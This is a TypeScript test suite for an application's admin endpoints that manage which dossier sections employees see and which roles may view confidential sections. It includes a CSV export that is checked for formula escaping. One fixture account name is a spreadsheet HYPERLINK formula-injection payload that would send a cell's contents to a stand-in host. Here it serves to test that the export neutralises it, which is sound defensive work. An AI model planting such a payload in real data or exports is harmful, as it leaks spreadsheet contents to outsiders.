import { expect } from 'chai';
import { AuditEntry, Tenant } from '../src/server/entities/index.js';
import {
  createTenantFixture, startTestApp, testDatabaseKind, type TenantFixture, type TestApp,
  type TestClient,
} from '../src/testing/index.js';
import type {
  ConfidentialAccessView, DossierSectionSettingsView,
} from '../src/common/dossier-sections.js';
import { pluginsWithProbe, PROBE_SECTIONS } from './section-probe-plugin.js';

const SECTIONS = '/api/admin/dossier-sections';
const ACCESS = '/api/admin/confidential-access';
const CONTACT_DATA = 'dossier.contact-data';

describe(`Dossier sections in the administration (${testDatabaseKind()})`, () => {
  let test: TestApp;
  let a: TenantFixture;
  let b: TenantFixture;
  let admin: TestClient;

  before(async () => {
    test = await startTestApp({ plugins: await pluginsWithProbe() });
    a = await createTenantFixture(test, { slug: 'atelier-noord' });
    b = await createTenantFixture(test, { slug: 'kringloop-zuid' });
    admin = await a.client('admin');
  });
  after(async () => {
    await test?.close();
  });

  const settingsOf = async (fixture: TenantFixture) =>
    (await test.em().findOneOrFail(Tenant, { id: fixture.tenant.id })).settings;
  const audits = (fixture: TenantFixture, action: string) =>
    test.emFor(fixture.tenant.id).find(AuditEntry, { action }, { orderBy: { at: 'asc' } });

  describe('GET /api/admin/dossier-sections', () => {
    it('should list every section with its default, choice and confidentiality', async () => {
      const answer = await admin.get(SECTIONS);
      const view = answer.body as DossierSectionSettingsView;

      expect(answer.status).to.equal(200);
      expect(view.confidentialRoles, 'nobody until the tenant names roles').to.deep.equal([]);
      expect(view.sections.find((s) => s.id === CONTACT_DATA)).to.deep.include({
        pluginId: 'dossier', defaultVisibleToEmployee: true, tenantChoice: null,
        visibleToEmployee: true, confidential: false,
      });
      expect(view.sections.find((s) => s.id === PROBE_SECTIONS.health)).to.deep.include({
        defaultVisibleToEmployee: false, visibleToEmployee: false, confidential: true,
      });
    });

    it('should refuse roles without settings.manage', async () => {
      for (const role of ['staff', 'coach', 'employee'] as const) {
        const client = await a.client(role);
        expect((await client.get(SECTIONS)).status, role).to.equal(403);
        expect((await client.put(SECTIONS, { confidentialRoles: [role] })).status).to.equal(403);
        expect((await client.get(ACCESS)).status, role).to.equal(403);
      }
      expect((await settingsOf(a)).confidentialRoles).to.equal(undefined);
    });
  });

  describe('PUT /api/admin/dossier-sections', () => {
    it('should store the choice, audit it by section and apply it to the session', async () => {
      const answer = await admin.put(SECTIONS, {
        employeeSections: { [CONTACT_DATA]: false, [PROBE_SECTIONS.notes]: true },
        confidentialRoles: ['staff', 'admin'],
      });

      expect(answer.status, answer.text).to.equal(200);
      expect(answer.body.confidentialRoles).to.deep.equal(['admin', 'staff']);
      expect(await settingsOf(a)).to.deep.include({
        employeeSections: { [CONTACT_DATA]: false, [PROBE_SECTIONS.notes]: true },
        confidentialRoles: ['admin', 'staff'],
      });
      const [entry] = await audits(a, 'tenant.dossier-sections-update');
      expect(entry?.accountId).to.equal(a.accounts.admin.id);
      expect(entry?.details?.fields).to.have.members([
        `employeeSections.${CONTACT_DATA}`, `employeeSections.${PROBE_SECTIONS.notes}`,
        'confidentialRoles',
      ]);

      const session = (await (await a.client('employee')).get('/api/session')).body;
      const ids = (session.dossierSections as Array<{ id: string }>).map((s) => s.id);
      expect(ids).to.include(PROBE_SECTIONS.notes).and.not.include(CONTACT_DATA);
      expect(await settingsOf(b), 'the other tenant keeps its own').to.not.have.property(
        'employeeSections',
      );
    });

    it('should audit nothing when nothing changes', async () => {
      const before = (await audits(a, 'tenant.dossier-sections-update')).length;
      await admin.put(SECTIONS, { confidentialRoles: ['admin', 'staff'] });
      expect(await audits(a, 'tenant.dossier-sections-update')).to.have.length(before);
    });

    it('should refuse an unknown section, naming it, and store nothing', async () => {
      const before = await settingsOf(a);
      const answer = await admin.put(SECTIONS, {
        employeeSections: { [CONTACT_DATA]: true, 'nergens.iets': true },
        confidentialRoles: ['coach'],
      });

      expect(answer.status).to.equal(400);
      expect(answer.body.errors.map((e: { field: string }) => e.field))
        .to.deep.equal(['employeeSections.nergens.iets']);
      expect(await settingsOf(a)).to.deep.equal(before);
    });

    it('should refuse to show a confidential section to employees', async () => {
      const answer = await admin.put(SECTIONS, {
        employeeSections: { [PROBE_SECTIONS.health]: true },
      });

      expect(answer.status).to.equal(400);
      expect(answer.body.errors[0].field).to.equal(`employeeSections.${PROBE_SECTIONS.health}`);
      const hidden = await admin.put(SECTIONS, {
        employeeSections: { [PROBE_SECTIONS.health]: false },
      });
      expect(hidden.status).to.equal(200);
    });

    it('should refuse bad input with 400 naming the field', async () => {
      const cases: Array<[unknown, string]> = [
        [{ confidentialRoles: ['employee'] }, 'confidentialRoles.0'],
        [{ confidentialRoles: ['staff', 'staff'] }, 'confidentialRoles'],
        [{ confidentialRoles: 'staff' }, 'confidentialRoles'],
        [{ employeeSections: { [CONTACT_DATA]: 'ja' } }, `employeeSections.${CONTACT_DATA}`],
        [{ employeeSections: [] }, 'employeeSections'],
        [{ employeeSections: {}, tenantId: b.tenant.id }, 'tenantId'],
      ];
      for (const [body, field] of cases) {
        const answer = await admin.put(SECTIONS, body);
        expect(answer.status, JSON.stringify(body)).to.equal(400);
        expect(answer.body.errors.map((e: { field: string }) => e.field), JSON.stringify(body))
          .to.include(field);
      }
    });

    it("should keep the choices of a plugin that is switched off", async () => {
      await admin.put(SECTIONS, {
        employeeSections: { [CONTACT_DATA]: false, [PROBE_SECTIONS.notes]: true },
      });
      expect((await admin.put('/api/admin/plugins/section-probe', { enabled: false })).status)
        .to.equal(200);
      const view = (await admin.put(SECTIONS, { employeeSections: { [CONTACT_DATA]: true } }))
        .body as DossierSectionSettingsView;
      expect(view.sections.map((s) => s.id)).to.not.include(PROBE_SECTIONS.notes);

      expect((await admin.put('/api/admin/plugins/section-probe', { enabled: true })).status)
        .to.equal(200);
      expect((await settingsOf(a)).employeeSections).to.deep.equal({
        [CONTACT_DATA]: true, [PROBE_SECTIONS.notes]: true,
      });
    });
  });

  describe('a hidden section', () => {
    it('should audit the refusal with the section, as other refusals', async () => {
      await admin.put(SECTIONS, { employeeSections: { [CONTACT_DATA]: false } });
      const employee = await a.client('employee');
      const path = `/api/dossier/people/${a.employeePerson.id}/contact-data`;

      expect((await employee.get(path)).status).to.equal(404);
      const refused = (await audits(a, 'request.refused'))
        .find((entry) => entry.details?.reason === 'section_hidden');
      expect(refused?.details).to.deep.equal({
        route: 'GET /api/dossier/people/:personId/contact-data', reason: 'section_hidden',
        section: CONTACT_DATA,
      });
      await admin.put(SECTIONS, { employeeSections: {} });
      expect((await employee.get(path)).status).to.equal(200);
    });
  });

  describe('GET /api/admin/confidential-access', () => {
    before(async () => {
      await admin.put(SECTIONS, { confidentialRoles: ['admin', 'coach'] });
      await admin.post('/api/admin/accounts', {
        displayName: '=HYPERLINK("http://example.invalid/?"&A2;"klik")', role: 'coach',
        username: 'coach-formule', password: 'test-password-123',
      });
      const gone = await admin.post('/api/admin/accounts', {
        displayName: 'Oud Begeleider', role: 'coach', username: 'coach-weg',
        password: 'test-password-123',
      });
      const off = await admin.patch(`/api/admin/accounts/${gone.body.account.id}`, {
        active: false,
      });
      expect(off.status, off.text).to.equal(200);
    });

    it('should list the confidential sections, the roles and who holds them', async () => {
      const answer = await admin.get(ACCESS);
      const view = answer.body as ConfidentialAccessView;

      expect(answer.status).to.equal(200);
      expect(view.sections.map((s) => s.id)).to.include(PROBE_SECTIONS.health)
        .and.not.include(CONTACT_DATA);
      expect(view.roles).to.deep.equal(['admin', 'coach']);
      expect(view.accounts.map((x) => x.role)).to.have.members(['admin', 'coach', 'coach']);
      const names = view.accounts.map((x) => x.displayName);
      expect(names).to.include('admin atelier-noord').and.include('coach atelier-noord');
      expect(names, 'not deactivated accounts').to.not.include('Oud Begeleider');
      expect(answer.text, 'nothing of the other tenant').to.not.include('kringloop-zuid');
      expect(answer.text, 'no sign-in names').to.not.include('coach-formule');
    });

    it('should give the list as CSV for Excel, formulas shown literally, audited', async () => {
      const answer = await admin.get(`${ACCESS}.csv`);

      expect(answer.status).to.equal(200);
      expect(answer.headers.get('content-type')).to.match(/^text\/csv/);
      expect(answer.headers.get('content-disposition')).to.match(
        /^attachment; filename="vertrouwelijke-toegang-\d{4}-\d{2}-\d{2}\.csv"$/,
      );
      const lines = answer.text.replace(/^\uFEFF/, '').split('\r\n');
      expect(lines[0]).to.equal('Naam;Rol;Vertrouwelijke onderdelen');
      const coach = lines.find((line) => line.startsWith('coach atelier-noord;Begeleider;'));
      expect(coach).to.include(PROBE_SECTIONS.health).and.not.include(CONTACT_DATA);
      expect(lines.find((l) => l.includes('HYPERLINK'))).to.match(/^"'=HYPERLINK/);
      expect(answer.text).to.not.include('Oud Begeleider');
      expect(await audits(a, 'tenant.confidential-access-export')).to.have.length(1);
    });

    it('should list nobody while the tenant names no role', async () => {
      await admin.put(SECTIONS, { confidentialRoles: [] });
      const view = (await admin.get(ACCESS)).body as ConfidentialAccessView;
      expect(view.roles).to.deep.equal([]);
      expect(view.accounts).to.deep.equal([]);
    });
  });
});
